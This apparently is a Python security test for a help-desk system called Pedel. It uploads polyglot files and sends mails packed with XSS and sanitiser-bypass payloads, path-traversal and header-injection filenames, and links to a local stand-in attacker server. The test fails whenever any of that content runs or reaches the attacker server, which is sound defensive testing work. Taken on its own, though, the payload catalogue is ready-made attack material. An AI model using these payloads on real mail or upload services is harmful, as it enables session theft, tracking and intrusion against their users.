#!/usr/bin/env python3
"""hostile.py SCRIPT.mjs - a Pedel whose customers send what would run in a browser that trusted it: files that are pages, scripts and
pictures at once, and mails. Runs SCRIPT.mjs BASE LIST.json, where LIST says who sees what."""
import email.message
import http.server
import json
import pathlib
import re
import subprocess
import sys
import threading
import urllib.request
import zlib

HERE = pathlib.Path(__file__).resolve().parent
sys.path.insert(0, str(HERE.parent / 'flow'))
from pedel import Pedel, wait_until  # noqa: E402

DESK = 'hjaelp@fjordkant.example'
ACT = "document.title='ran';document.cookie='ran=1';fetch('/ran');new Image().src='/ran-too';try{parent.document.title='ran'}catch(e){}"
GIF = b'GIF89a/*' + bytes(20) + b'*/=1;' + ACT.encode() + b'//;'
PNG = bytes.fromhex('89504e470d0a1a0a0000000d49484452000000010000000108060000001f15c4890000000d49444154789c6360606060000000050001a5f645400000000049454e44ae426082')


def zipped(name, content):
    """A ZIP of one stored file: HTML in the open, in the middle of it."""
    crc, n = zlib.crc32(content), len(content)
    size = n.to_bytes(4, 'little') * 2
    local = b'PK\x03\x04\x14\x00\x00\x00\x00\x00\x00\x00\x00\x00' + crc.to_bytes(4, 'little') + size + len(name).to_bytes(2, 'little') + b'\0\0' + name
    central = b'PK\x01\x02\x14\x00\x14\x00\x00\x00\x00\x00\x00\x00\x00\x00' + crc.to_bytes(4, 'little') + size + len(name).to_bytes(2, 'little') + bytes(16) + name
    end = b'PK\x05\x06\0\0\0\0\x01\0\x01\0' + len(central).to_bytes(4, 'little') + (len(local) + n).to_bytes(4, 'little') + b'\0\0'
    return local + content + central + end


def files():
    """(name, type that is said, bytes)"""
    html = f'<!doctype html><html><body onload="{ACT}"><script>{ACT}</script></body></html>'.encode()
    svg = f'<svg xmlns="http://www.w3.org/2000/svg" onload="{ACT}"><script>{ACT}</script><foreignObject><body xmlns="http://www.w3.org/1999/xhtml"><img src="x" ' \
          f'onerror="{ACT}"/></body></foreignObject></svg>'.encode()
    xml = f'<?xml version="1.0"?><html xmlns="http://www.w3.org/1999/xhtml"><script>{ACT}</script></html>'.encode()
    pdf = b'%PDF-1.4\n1 0 obj<</Type/Catalog/Pages 2 0 R/OpenAction<</S/JavaScript/JS(app.alert\\(1\\);this.submitForm\\("/ran"\\))>>>>endobj\n' \
          b'2 0 obj<</Type/Pages/Kids[3 0 R]/Count 1>>endobj\n3 0 obj<</Type/Page/Parent 2 0 R/MediaBox[0 0 9 9]>>endobj\ntrailer<</Root 1 0 R>>\n%%EOF'
    return [
        ('side.html', 'text/html', html), ('side.htm', 'text/html;charset=utf-7', html), ('side.txt', 'text/plain', html), ('side.png', 'image/png', html),
        ('side', 'application/octet-stream', html), ('side.xyz', 'unknown/unknown', html), ('side.gif', '*/*', html), ('tom', '', html),
        ('tegning.svg', 'image/svg+xml', svg), ('tegning.png', 'image/png', svg), ('data.xml', 'text/xml', xml), ('data.xhtml', 'application/xhtml+xml', xml),
        ('stil.xsl', 'text/xsl', xml), ('data.rdf', 'application/rdf+xml', xml), ('side.mht', 'message/rfc822', b'Content-Type: text/html\r\n\r\n' + html),
        ('side.mhtml', 'multipart/related', html), ('script.js', 'text/javascript', ACT.encode()), ('modul.mjs', 'application/javascript', ACT.encode()),
        ('stil.css', 'text/css', b'body::before{content:"ran"}*{background:url(/ran)}'), ('fil.pdf', 'application/pdf', pdf),
        ('gifjs.gif', 'image/gif', GIF), ('gifjs.js', 'text/javascript', GIF), ('pnghtml.png', 'image/png', PNG + html), ('pnghtml.html', 'text/html', PNG + html),
        ('ziphtml.zip', 'application/zip', zipped(b'a.html', html)), ('ziphtml.html', 'text/html', zipped(b'a.html', html)),
        ('utf16.txt', 'text/plain', html.decode().encode('utf-16')), ('utf7.txt', 'text/plain', b'+ADw-script+AD4-' + ACT.encode() + b'+ADw-/script+AD4-'),
        ('../../../etc/op.html', 'text/html', html), ('C:\\windows\\op.exe', 'application/x-msdownload', b'MZ'), ('faktura\u202efdp.exe', 'application/pdf', b'MZ'),
        ('a\u2066b\u200f.html', 'text/html', html), ('linje%0d%0aSet-Cookie: ran=1.html', 'text/html', html), ('"><img src=x onerror=alert(1)>.png', 'image/png', PNG),
        ("';alert(1);'.pdf", 'application/pdf', pdf), ('<script>alert(1)</script>', 'image/gif', GIF), ('manifest.json', 'application/manifest+json', b'{}'),
    ]


def mails(evil):
    """Bodies that a careless cleaner lets through, one per known trick."""
    act = ACT.replace('"', '&quot;')
    return [
        f'<script>{ACT}</script><p>a</p>', f'<script src="{evil}/x.js"></script>', f'<img src=x onerror="{act}">', f'<body onload="{act}">a', f'<p onmouseover="{act}">a</p>',
        f'<svg onload="{act}"></svg>', f'<svg><script>{ACT}</script></svg>', f'<svg><animate onbegin="{act}" attributeName=x dur=1s>', f'<math><mtext><script>{ACT}</script></mtext></math>',
        f'<a href="javascript:{act}">klik</a>', f'<a href="java\tscript:{act}">klik</a>', f'<a href=" &#1;javascript:{act}">klik</a>', f'<a href="data:text/html,<script>{act}</script>">klik</a>',
        f'<a href="vbscript:x">klik</a>', f'<form action="{evil}/form"><input name=a autofocus onfocus="{act}"><button>Send</button></form>', f'<form action="/logout" method=post><button>Send</button></form>',
        f'<meta http-equiv=refresh content="0;url={evil}/refresh">', f'<meta http-equiv="refresh" content="0;url=/ran">', f'<base href="{evil}/"><img src="cid:nothing"><a href="x">klik</a>',
        f'<iframe src="{evil}/frame"></iframe>', f'<iframe srcdoc="<script>{act}</script>"></iframe>', f'<object data="{evil}/object"></object>', f'<embed src="{evil}/embed">',
        f'<img src="{evil}/pixel.gif" width=1 height=1>', f'<img srcset="{evil}/srcset 1x">', f'<picture><source srcset="{evil}/source"><img src="cid:x"></picture>', f'<video src="{evil}/v" poster="{evil}/p" autoplay></video>',
        f'<audio src="{evil}/a" autoplay></audio>', f'<p style="background:url({evil}/css)">a</p>', f'<style>@import "{evil}/import";*{{background:url({evil}/all)}}</style>', f'<link rel=stylesheet href="{evil}/link">',
        f'<link rel=prefetch href="{evil}/prefetch"><link rel=dns-prefetch href="//evil.example">', f'<table background="{evil}/table"><tr><td background="{evil}/td">a</td></tr></table>', f'<body background="{evil}/body">',
        f'<input type=image src="{evil}/input">', f'<bgsound src="{evil}/bgsound"><layer src="{evil}/layer"></layer>', f'<a href="x" ping="{evil}/ping">klik</a>', f'<svg><image href="{evil}/svgimage"/><use href="{evil}/use#x"/></svg>',
        f'<math><mi xlink:href="javascript:{act}">a</mi></math>',
        f'<noscript><p title="</noscript><img src=x onerror={act}>"></noscript>', f'<svg></p><style><a id="</style><img src=x onerror={act}>">', f'<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror={act}&gt;">',
        f'<form><math><mtext></form><form><mglyph><style></math><img src=x onerror="{act}">', f'<svg><desc><template><style><a id="</style><img src=x onerror={act}>"></template></desc></svg>', f'<textarea><img title="</textarea><img src=x onerror={act}>"></textarea>',
        f'<title><a id="</title><img src=x onerror={act}>"></title>', f'<xmp><img title="</xmp><img src=x onerror={act}>"></xmp>', f'<!--><img src=x onerror={act}>-->', f'<!--[if IE]><img src=x onerror={act}><![endif]-->', f'<![CDATA[<img src=x onerror={act}>]]>',
        f'<select><option><style></option></select><img src=x onerror={act}></style>', f'<p id="a" name="getElementById">a</p><img name=body><a id=cookie href=x>klik</a>', f'<div><template shadowrootmode=open><script>{ACT}</script></template></div>',
        f'<img src="cid:a&quot; onerror=&quot;{act}">', f'<img src="cid:x" alt="&quot; onerror=&quot;{act}">', f'<a href="https://evil.example/&quot; onclick=&quot;{act}">klik</a>', f'<p title="\x00"><scr\x00ipt>{ACT}</scr\x00ipt>', f'<IMG SRC=`javascript:{act}`>',
        f'<a href="http://x"target=_self onclick={act}>klik</a>', f'<table><tr><td><svg><![CDATA[><image xlink:href="]]><img src=x onerror={act}//">', '<div>' * 3000 + f'<img src=x onerror="{act}">',
    ]


class Evil(http.server.BaseHTTPRequestHandler):
    """The stranger's own server: who comes here was led here."""
    came = []

    def do_GET(self):
        Evil.came.append(self.path)
        self.send_response(200)
        self.end_headers()

    do_POST = do_GET

    def log_message(self, *_):
        pass


def send(p, karen, things, evil):
    """Everything as the portal takes it, and again as mail."""
    karen.get('/portal/tasks/new')
    word = karen.form('/portal/tasks')
    paths = []
    for at in range(0, len(things), 10):
        edge, body = 'kant', b''
        for k, v in {**word, 'text': f'Filer {at}'}.items():
            body += f'--{edge}\r\nContent-Disposition: form-data; name="{k}"\r\n\r\n{v}\r\n'.encode()
        for name, kind, content in things[at:at + 10]:
            said = name.replace('"', '%22')
            body += f'--{edge}\r\nContent-Disposition: form-data; name="file"; filename="{said}"\r\n'.encode() + (f'Content-Type: {kind}\r\n'.encode() if kind else b'') + b'\r\n' + content + b'\r\n'
        karen._open(urllib.request.Request(p.base + '/portal/tasks', body + f'--{edge}--\r\n'.encode(), {
            'Content-Type': f'multipart/form-data; boundary={edge}', 'Origin': p.base}))
        assert karen.status == 200, (karen.status, karen.text[:500])
        number = re.search(r'/portal/tasks/(\d+)', karen.url).group(1)
        paths += sorted(set(re.findall(rf'/portal/tasks/{number}/files/\d+', karen.text)))
    assert len(paths) == len(things), (len(paths), len(things))
    for i, text in enumerate(mails(evil)):
        m = email.message.EmailMessage()
        m['From'], m['To'], m['Subject'], m['Message-ID'] = 'karen@soenderskov.example', DESK, f'Ond nummer {i}', f'<ond-{i}@soenderskov.example>'
        m.set_content('Hej')
        m.add_alternative(f'<html><body><p>ende{i}</p>{text}</body></html>', subtype='html', cte='base64')
        name, kind, content = things[i % len(things)]
        kind = kind.split(';')[0] if re.fullmatch(r'[a-z]+/[a-z+-]+', kind.split(';')[0]) and not kind.startswith(('multipart', 'message')) else 'application/octet-stream'
        m.add_attachment(content, *kind.split('/'), filename=re.sub(r'[\r\n]', ' ', name))
        p.lmtp_send('karen@soenderskov.example', [DESK], m.as_bytes())
    return paths


def main():
    server = http.server.ThreadingHTTPServer(('127.0.0.1', 0), Evil)
    threading.Thread(target=server.serve_forever, daemon=True).start()
    evil = f'http://127.0.0.1:{server.server_port}'
    with Pedel() as p:
        p.customer(services=())
        karen = p.browser().get('/login')
        karen.submit('/login/mail', mail='karen@soenderskov.example')
        link = re.search(r'/login/link/[0-9a-f]{64}', p.sql("SELECT body FROM outbox WHERE kind='signin'")[0][0]).group()
        karen.get(link).submit(link)
        things = files()
        portal = send(p, karen, things, evil)
        n = len(mails(evil))
        wait_until(lambda: int(p.sql("SELECT count(*) FROM ticket WHERE subject LIKE 'Ond %'")[0][0]) == n, 300)
        ours = p.sql("SELECT t.number,m.id FROM message m JOIN ticket t ON t.id=m.ticket_id WHERE m.body_html<>'' ORDER BY m.id")
        att = p.sql('SELECT t.number,a.id FROM attachment a JOIN ticket t ON t.id=a.ticket_id ORDER BY a.id')
        att = att[len(things):2 * len(things)]         # those that came by mail
        assert len(ours) > n * 0.7, f'of {n} mails {len(ours)} have HTML left to show'
        spec = {'password': p.password, 'portal': portal, 'evil': evil, 'cookie': next(c.value for c in karen.jar if c.name == 'pedel'),
                'files': [f'/console/tickets/{t}/files/{a}' for t, a in att], 'mails': [[f'/console/tickets/{t}', f'/console/tickets/{t}/html/{m}'] for t, m in ours]}
        filled = p.folder / 'hostile.json'
        filled.write_text(json.dumps(spec))
        code = subprocess.run(['node', sys.argv[1], p.base, filled]).returncode
        if Evil.came:
            print('# the stranger was visited:', Evil.came[:10])
        return code or bool(Evil.came)


if __name__ == '__main__':
    sys.exit(main())
